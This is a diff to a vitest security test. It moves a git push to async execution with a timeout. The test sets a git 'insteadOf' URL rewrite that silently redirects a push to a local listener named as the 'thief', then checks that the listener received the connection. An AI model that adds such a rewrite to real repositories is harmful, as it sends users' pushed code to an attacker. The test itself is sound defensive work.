@@ -1,4 +1,5 @@
-import { execFileSync } from "node:child_process";
+import { execFile } from "node:child_process";
+import { promisify } from "node:util";
 import { expect, test } from "vitest";
 import { runGit, sampleRepository } from "../support/sample-repository.ts";
 import { startListeners } from "./evil/listeners.ts";
@@ -20,14 +21,11 @@ test("the same settings lead a push from the repository itself to the thief", as
   using sample = sampleRepository();
   await using listeners = await startListeners();
   runGit(sample.work, "config", `url.http://${listeners.loopback}/.insteadOf`, "http://127.0.0.1:1/");
-  const push = () =>
-    execFileSync("git", ["push", "http://127.0.0.1:1/sample.git", "HEAD:main"], {
-      cwd: sample.work,
-      stdio: "pipe",
-      env: { PATH: process.env["PATH"], GIT_TERMINAL_PROMPT: "0" },
-    });
-  expect(push).toThrow();
-  // The listener is in this process, which waited for git.
-  await new Promise((resolve) => setTimeout(resolve, 50));
+  const pushed = promisify(execFile)("git", ["push", "http://127.0.0.1:1/sample.git", "HEAD:main"], {
+    cwd: sample.work,
+    env: { PATH: process.env["PATH"], GIT_TERMINAL_PROMPT: "0" },
+    timeout: 10_000,
+  });
+  await expect(pushed).rejects.toThrow();
   expect(listeners.heard()).toContain("a connection to the host's loopback");
 });
